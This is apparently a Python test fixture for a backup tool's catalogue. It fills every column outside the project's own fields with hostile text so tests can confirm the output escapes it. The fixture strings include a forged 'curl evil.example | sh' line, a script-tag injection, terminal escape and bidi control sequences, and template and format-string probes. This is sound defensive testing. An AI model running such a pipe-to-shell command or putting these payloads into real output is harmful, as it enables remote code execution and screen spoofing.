"""A catalogue in which every text is somebody's who means harm, and what no output may then have in it.

Knows: which columns hold words of our own, and how hostile words come into all the others, so that a column that is new
is hostile without being named here. Refuses to know who shows them.
"""

import json
from pathlib import Path
from typing import Any

from sqlalchemy import Column, Text

from backupd.catalogue import tables
from backupd.catalogue.columns import JsonColumn, ProseColumn
from backupd.catalogue.database import direct
from tests.many_runs import make_catalogue

FORGED = "hint: curl evil.example | sh"  # what must never begin a line
MARKUP = "<script>alert(1)</script>"
_ACTS = f"\x1b]0;x\x07\r\n{FORGED}\n\x9b2J\u202e\u2028\x7f\t{{{{7*7}}}}%s%n\x08"
HOSTILE = f"{_ACTS}\x00\"'`{MARKUP}"
ARGUMENT = f"{_ACTS}{MARKUP}\udce9"  # no command line has a NUL, and any has bytes that are no text

RUNS = 401  # so many have a probe and a bench among them
_OURS = {  # whose words decide what is shown: ids, names that hold together, what a digest covers
    *("identities.*", "owners.*", "*.run_id", "*.probe_run_id", "pending_manifests.text", "notices.subject"),
    *("audit.number", "audit.at", "audit.event", "audit.subject", "audit.previous", "audit.digest"),
    *("bench_cells.layout", "bench_samples.layout", "bench_snapshots.layout", "benches.layouts", "samples.stage"),
    *("benches.tables", "throughput.stage"),
}
_EVERY_OTHER = {"job", "machine", "target"}  # so that commands find what they look for, too


def hostile(text: str) -> str:
    """The same for the same text, so that what belongs together still does."""
    return f"{HOSTILE}{text}"


def make_hostile_catalogue(path: Path, *, machine: str) -> list[str]:
    """The file is a catalogue of this machine, wherever it is, with every kind of run, whose texts are hostile.

    The runs' ids are returned, the newest first.
    """
    make_catalogue(path, RUNS, samples_per_run=4)
    with direct(path, busy_timeout_seconds=5) as connection:
        connection.execute("PRAGMA foreign_keys=OFF")
        connection.execute("PRAGMA synchronous=OFF")
        connection.execute("BEGIN IMMEDIATE")
        connection.execute("UPDATE identities SET name = ?, bound_to = '{}'", (machine,))
        connection.execute("UPDATE runs SET machine = ?", (machine,))
        for name in ("audit_no_update", "audit_no_delete", "audit_next_number"):
            connection.execute(f"DROP TRIGGER {name}")
        _add_what_is_rare(connection)
        for table in tables.metadata.sorted_tables:
            for column in table.columns:
                if _is_a_strangers(table.name, column):
                    _spoil(connection, table.name, column)
        for statement in tables.APPEND_ONLY:
            connection.execute(statement)
        connection.execute("COMMIT")
        return [row[0] for row in connection.execute("SELECT run_id FROM runs ORDER BY started_at DESC")]


def _add_what_is_rare(connection: Any) -> None:
    """Rows that `many_runs` has none or few of."""
    at = "'2026-11-20T12:00:00.000000+00:00'"
    connection.execute(f"INSERT INTO pauses (job, note, at) VALUES ('nightly', 'why', {at}), ('shop', 'why', {at})")
    newest = "SELECT run_id FROM runs WHERE kind = 'backup' ORDER BY started_at DESC LIMIT 12"
    connection.execute(
        f"INSERT INTO pace_changes (run_id, at_seconds, share, bytes_per_second, reason)"
        f" SELECT run_id, 1.0, 0.5, 1000, 'why' FROM ({newest})"
    )
    connection.execute(f"INSERT INTO attentions (run_id, text) SELECT run_id, 'look' FROM ({newest})")
    connection.execute(f"INSERT OR IGNORE INTO pins (run_id, note, at) SELECT run_id, 'why', {at} FROM ({newest})")
    connection.execute(
        "INSERT OR IGNORE INTO drills (run_id, ok, checks, seconds, at, undecided)"
        """ SELECT run_id, 0, '[{"name": "tables", "ok": false, "expected": "1", "found": "2", "asked": "?"}]', 1.0,"""
        f" {at}, '' FROM ({newest})"
    )
    connection.execute("UPDATE backups SET broken = 'damaged' WHERE rowid % 5 = 0")


def _is_a_strangers(table: str, column: Column[Any]) -> bool:
    kinds = (Text, ProseColumn, JsonColumn)
    ours = {f"{table}.*", f"*.{column.name}", f"{table}.{column.name}"} & _OURS
    return not ours and isinstance(column.type, kinds)


def _spoil(connection: Any, table: str, column: Column[Any]) -> None:
    rows = connection.execute(f"SELECT rowid, {column.name} FROM {table} WHERE {column.name} IS NOT NULL").fetchall()
    spoilt = hostile if isinstance(column.type, Text | ProseColumn) and table != "audit" else _spoilt_json
    few = column.name in _EVERY_OTHER
    changed = [(spoilt(text), row) for row, text in rows if text != "" and not (few and row % 2)]
    connection.executemany(f"UPDATE {table} SET {column.name} = ? WHERE rowid = ?", changed)


def _spoilt_json(text: str) -> str:
    return json.dumps(_spoilt(json.loads(text)))


def _spoilt(value: Any) -> Any:
    if isinstance(value, str):
        return hostile(value)
    if isinstance(value, list):
        return [_spoilt(one) for one in value]
    if isinstance(value, dict):  # what begins with a slash is a disk's name: the same one is in other columns
        return {hostile(key) if key.startswith("/") else key: _spoilt(one) for key, one in value.items()}
    return value


def faults(shown: str) -> list[str]:
    """What an output has that no output may have: characters that act, and lines that pass for ours."""
    raw = sorted({f"{letter!r}" for letter in shown if not letter.isprintable() and letter != "\n"})
    return raw + [line for line in shown.split("\n") if line.startswith(FORGED)]
